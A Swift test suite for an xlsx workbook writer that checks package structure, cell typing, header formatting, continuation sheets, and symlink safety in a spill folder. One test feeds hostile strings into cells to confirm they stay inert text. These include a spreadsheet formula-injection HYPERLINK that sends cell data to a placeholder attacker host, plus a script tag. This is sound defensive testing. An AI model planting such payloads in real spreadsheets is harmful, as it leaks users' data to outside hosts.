import Domain
import Foundation
import Report
import Testing
import TestSupport
@testable import Workbook

/// The xlsx writer: a workbook written and read back by `WorkbookReading` (the ZIP's own
/// directory, zlib's inflate, the sheets' cells).
@Suite("The xlsx workbook")
struct WorkbookTests {
    static let asOf = Day(year: 2026, month: 7, day: 15)!

    static let headings = [
        ColumnHeading(name: "student", type: .text), ColumnHeading(name: "weeks", type: .integer),
        ColumnHeading(name: "capacity_weeks", type: .decimal(places: 1)),
        ColumnHeading(name: "utilisation", type: .decimal(places: 3), spreadsheet: .utilisation),
        ColumnHeading(name: "start", type: .date), ColumnHeading(name: "year", type: .year),
        ColumnHeading(name: "met", type: .yesNo), ColumnHeading(name: "fingerprint", type: .fingerprint),
        ColumnHeading(name: "final_score", type: .score),
    ]

    static func row(_ student: String, weeks: Int = 4) -> [Cell] {
        [.text(student), .integer(weeks), .decimal(Ratio(125, 10), places: 1), .decimal(Ratio(857, 1000), places: 3),
         .date(Day(year: 2025, month: 9, day: 1)!), .year(PlacementYear(startYear: 2025)), .yesNo(true),
         .fingerprint(0x0012_3456_7890_1234), .decimal(Ratio(1350, 100), places: 1)]
    }

    static func workbook(_ rows: [[Cell]], limits: SheetLimits = .excel) throws -> [UInt8] {
        try Workbook.bytes([WorkbookTable(name: "placements", headings: headings, rows: rows),
                            WorkbookTable(name: "empty", headings: [ColumnHeading(name: "code", type: .text)], rows: [])],
                           date: asOf, limits: limits)
    }

    @Test("the package: content types, relationships, workbook, styles and one part per sheet, all deflated, dated the as-of day")
    func structure() throws {
        let book = try WorkbookReading(try Self.workbook([Self.row("007")]))
        #expect(book.entries.map(\.name) == ["[Content_Types].xml", "_rels/.rels", "xl/workbook.xml", "xl/_rels/workbook.xml.rels",
                                             "xl/styles.xml", "xl/worksheets/sheet1.xml", "xl/worksheets/sheet2.xml"])
        #expect(book.entries.allSatisfy { $0.method == 8 })
        // DOS date: (2026 - 1980) << 9 | 7 << 5 | 15.
        #expect(book.entries.allSatisfy { $0.dosDate == 46 << 9 | 7 << 5 | 15 })
        #expect(try book.sheets().map(\.name) == ["placements", "empty"])
        let types = try book.text("[Content_Types].xml")
        #expect(types.contains("/xl/worksheets/sheet2.xml") && types.contains("spreadsheetml.sheet.main+xml"))
        #expect(try book.text("xl/_rels/workbook.xml.rels").contains("Target=\"worksheets/sheet2.xml\""))
        // The empty table still has its sheet, with its header and a filter on it.
        #expect(try book.cells("xl/worksheets/sheet2.xml") == [.init(reference: "A1", style: 1, type: "inlineStr", value: "code")])
        #expect(try book.text("xl/worksheets/sheet2.xml").contains("<autoFilter ref=\"A1:A1\"/>"))
    }

    @Test("numbers are numbers, dates are serials with a date format, ids keep their zeros as text")
    func cellTypes() throws {
        let book = try WorkbookReading(try Self.workbook([Self.row("007")]))
        let cells = try book.cells("xl/worksheets/sheet1.xml").filter { $0.reference.hasSuffix("2") }
        #expect(cells == [
            .init(reference: "A2", style: 0, type: "inlineStr", value: "007"),
            .init(reference: "B2", style: 0, type: "n", value: "4"),
            .init(reference: "C2", style: CellStyle.oneDecimal.rawValue, type: "n", value: "12.5"),
            .init(reference: "D2", style: CellStyle.percentage.rawValue, type: "n", value: "0.857"),
            // 2025-09-01 is day 45901 of Excel's 1900 system.
            .init(reference: "E2", style: CellStyle.date.rawValue, type: "n", value: "45901"),
            .init(reference: "F2", style: 0, type: "inlineStr", value: "2025-2026"),
            .init(reference: "G2", style: 0, type: "inlineStr", value: "yes"),
            .init(reference: "H2", style: 0, type: "inlineStr", value: "fp-0012345678901234"),
            .init(reference: "I2", style: 0, type: "n", value: "13.5"),
        ])
        let styles = try book.text("xl/styles.xml")
        #expect(styles.contains("formatCode=\"yyyy-mm-dd\"") && styles.contains("formatCode=\"0.0%\""))
    }

    @Test("the header is frozen, bold and filtered; widths come from the longest value; utilisation has the page's bands")
    func headerAndWidths() throws {
        let long = String(repeating: "x", count: 40)
        let book = try WorkbookReading(try Self.workbook([Self.row("007"), Self.row(long), Self.row("1")]))
        let sheet = try book.text("xl/worksheets/sheet1.xml")
        #expect(sheet.contains("<pane ySplit=\"1\" topLeftCell=\"A2\" activePane=\"bottomLeft\" state=\"frozen\"/>"))
        #expect(sheet.contains("<autoFilter ref=\"A1:I4\"/>"))
        #expect(try book.text("xl/workbook.xml").contains("<definedName name=\"_xlnm._FilterDatabase\" localSheetId=\"0\" hidden=\"1\">'placements'!$A$1:$I$4</definedName>"))
        // student: 40 characters + 2; weeks: its header (5 + 3 for the filter button) + 2.
        #expect(sheet.contains("<col min=\"1\" max=\"1\" width=\"42\" customWidth=\"1\"/>"))
        #expect(sheet.contains("<col min=\"2\" max=\"2\" width=\"10\" customWidth=\"1\"/>"))
        #expect(sheet.contains("<conditionalFormatting sqref=\"D2:D4\">"))
        for colour in ["958F78", "666970", "31446B", "00204D", "F2F2F2"] { #expect(try book.text("xl/styles.xml").contains(colour)) }
        #expect(try book.cells("xl/worksheets/sheet1.xml").prefix(2).allSatisfy { $0.style == CellStyle.header.rawValue })
    }

    @Test("the same rows and date give the same bytes; another date changes only the entries' dates")
    func deterministic() throws {
        let rows = (0..<500).map { Self.row(String(format: "s%05d", $0), weeks: $0) }
        let first = try Self.workbook(rows), second = try Self.workbook(rows)
        #expect(first == second)
        let later = try Workbook.bytes([WorkbookTable(name: "placements", headings: Self.headings, rows: rows),
                                        WorkbookTable(name: "empty", headings: [ColumnHeading(name: "code", type: .text)], rows: [])],
                                       date: Self.asOf.adding(days: 1))
        #expect(later.count == first.count && later != first)
    }

    @Test("a table past the row limit continues on `placements (2)`, `placements (3)`, each with its header and filter")
    func continuation() throws {
        let rows = (1...7).map { Self.row("s\($0)") }
        let book = try WorkbookReading(try Self.workbook(rows, limits: SheetLimits(rows: 3, bytes: 1 << 30)))
        let sheets = try book.sheets()
        #expect(sheets.map(\.name) == ["placements", "placements (2)", "placements (3)", "empty"])
        var students: [String] = []
        for (sheet, count) in zip(sheets.prefix(3), [3, 3, 1]) {
            let cells = try book.cells(sheet.part)
            #expect(cells.first?.value == "student" && cells.first?.style == CellStyle.header.rawValue)
            students += cells.filter { $0.reference.hasPrefix("A") && $0.reference != "A1" }.map(\.value)
            #expect(try book.text(sheet.part).contains("<autoFilter ref=\"A1:I\(count + 1)\"/>"))
        }
        #expect(students == rows.map { $0[0].plainText })
        #expect(try book.text("xl/workbook.xml").contains("localSheetId=\"1\" hidden=\"1\">'placements (2)'!$A$1:$I$4<"))
    }

    @Test("hostile text stays text: no formula, XML-illegal characters as markers, Excel's escapes kept, huge cells cut")
    func hostileText() throws {
        let hostile = ["=HYPERLINK(\"http://evil.example/?x=\"&A1,\"Klik hier\")", "+1", "-2+3", "@SUM(A1)", "\tlead", "a\u{1}b\u{1F}c",
                       "cr\r\nlf", "_x0041_ stays", "<script>&amp;</script>", "bad \u{FFFE}\u{FFFF}", " spaced "]
        let huge = String(repeating: "é", count: 40_000)
        let rows = (hostile + [huge]).map { [Cell.text($0)] }
        let bytes = try Workbook.bytes([WorkbookTable(name: "t", headings: [ColumnHeading(name: "text", type: .text)], rows: rows)],
                                       date: Self.asOf)
        let book = try WorkbookReading(bytes)
        let sheet = try book.text("xl/worksheets/sheet1.xml")
        #expect(!sheet.contains("<f>") && !sheet.contains("<f "))
        let values = try book.cells("xl/worksheets/sheet1.xml").dropFirst().map(\.value)
        #expect(try book.cells("xl/worksheets/sheet1.xml").dropFirst().allSatisfy { $0.type == "inlineStr" })
        #expect(Array(values.prefix(5)) == Array(hostile.prefix(5)))
        #expect(values[5] == "a⟨U+0001⟩b⟨U+001F⟩c")
        #expect(values[6] == "cr\r\nlf")
        #expect(values[7] == "_x005F_x0041_ stays")
        #expect(values[8] == "<script>&amp;</script>")
        #expect(values[9] == "bad ⟨U+FFFE⟩⟨U+FFFF⟩")
        #expect(values[10] == " spaced " && sheet.contains("<t xml:space=\"preserve\"> spaced </t>"))
        #expect(values[11].utf16.count <= SheetXML.cellCharacters && values[11].hasSuffix("…⟨cut: 40000 characters⟩"))
        #expect(values[11].hasPrefix(String(repeating: "é", count: 32_000)))
    }

    @Test("sheets deflated into a folder leave nothing there, and a link planted under a part's name is not followed")
    func spillFolder() throws {
        let folder = NSTemporaryDirectory() + "workbook-\(UUID().uuidString)"
        try FileManager.default.createDirectory(atPath: folder, withIntermediateDirectories: true)
        defer { try? FileManager.default.removeItem(atPath: folder) }
        let victim = folder + "-victim"
        try "keep me".write(toFile: victim, atomically: true, encoding: .utf8)
        defer { try? FileManager.default.removeItem(atPath: victim) }
        try FileManager.default.createSymbolicLink(atPath: folder + "/.xlsx-part-\(getpid())-placements", withDestinationPath: victim)
        let writer = WorkbookWriter(date: Self.asOf, spillFolder: folder)
        let sheet = writer.sheet("placements", headings: Self.headings)
        for index in 0..<3_000 { try sheet.append(Self.row("s\(index)")) }
        var sink = MemorySink()
        try writer.write(into: &sink)
        #expect(try String(contentsOfFile: victim, encoding: .utf8) == "keep me")
        #expect(try FileManager.default.contentsOfDirectory(atPath: folder).isEmpty)
        let cells = try WorkbookReading(sink.bytes).cells("xl/worksheets/sheet1.xml")
        #expect(cells.count == 9 * 3_001 && cells.last?.reference == "I3001")
    }
}
